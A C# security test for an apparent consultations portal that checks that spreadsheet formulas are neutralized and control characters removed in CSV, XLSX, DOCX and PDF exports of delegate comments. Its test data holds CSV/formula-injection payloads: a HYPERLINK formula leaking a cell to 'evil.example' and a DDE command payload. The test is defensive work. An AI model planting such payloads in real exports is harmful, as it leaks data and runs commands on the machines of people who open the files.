using System.Text;
using Consultations.Domain.Replies;
using Consultations.Infrastructure.Identity;
using Consultations.Testing;
using Consultations.Web.Tests.Tally;
using DocumentFormat.OpenXml.Packaging;

namespace Consultations.Web.Tests.Security;

/// <summary>Findings 6 and 11: a delegate's comment can neither run as a formula in the secretariat's spreadsheet nor break an export.</summary>
public class Exports_are_safe_to_open(PortalFactory portal) : IClassFixture<PortalFactory>
{
    [Fact]
    public async Task Formulas_are_neutralized_and_control_characters_dropped_in_every_export()
    {
        var circular = await TallySeeds.CircularAsync(portal, 1801, texts: 3);
        await TallySeeds.ReplyAsync(portal, circular.Id, "FRA", new DateTime(2026, 3, 1, 10, 0, 0, DateTimeKind.Utc),
            (1, Opinion.AssignsAuthorityWithComments, "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")"),
            (2, Opinion.DoesNotAssignAuthority, "+cmd|' /C calc'!A0"),
            (3, Opinion.AssignsAuthorityWithComments, "Bad \u0001 control \u000B characters"));
        var secretariat = portal.CreatePortalClient();
        await secretariat.SignInAsync(await portal.CreateAccountAsync(Roles.Secretariat));

        var csv = Encoding.UTF8.GetString((await (await secretariat.GetAsync($"/circulars/{circular.Id}/tally/export/replies.csv")).Content.ReadAsByteArrayAsync())[3..]);
        var xlsx = await secretariat.GetAsync($"/circulars/{circular.Id}/tally/export/tally.xlsx");
        var docx = await secretariat.GetAsync($"/circulars/{circular.Id}/tally/export/compilation.docx");
        var pdf = await secretariat.GetAsync($"/circulars/{circular.Id}/tally/export/compilation.pdf");

        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",", csv);
        Assert.Contains(",'+cmd|' /C calc'!A0,", csv);
        Assert.Contains("Bad  control  characters", csv);
        Assert.DoesNotContain("\u0001", csv, StringComparison.Ordinal);
        Assert.True(xlsx.IsSuccessStatusCode && docx.IsSuccessStatusCode && pdf.IsSuccessStatusCode);
        using (var book = SpreadsheetDocument.Open(new MemoryStream(await xlsx.Content.ReadAsByteArrayAsync()), false))
        {
            var replies = book.WorkbookPart!.WorksheetParts.Select(p => p.Worksheet.InnerText).Single(t => t.Contains("HYPERLINK", StringComparison.Ordinal));
            Assert.Contains("'=HYPERLINK", replies);
            Assert.Contains("Bad  control  characters", replies);
        }

        using var document = WordprocessingDocument.Open(new MemoryStream(await docx.Content.ReadAsByteArrayAsync()), false);
        Assert.Contains("Bad  control  characters", document.MainDocumentPart!.Document!.Body!.InnerText);
    }
}
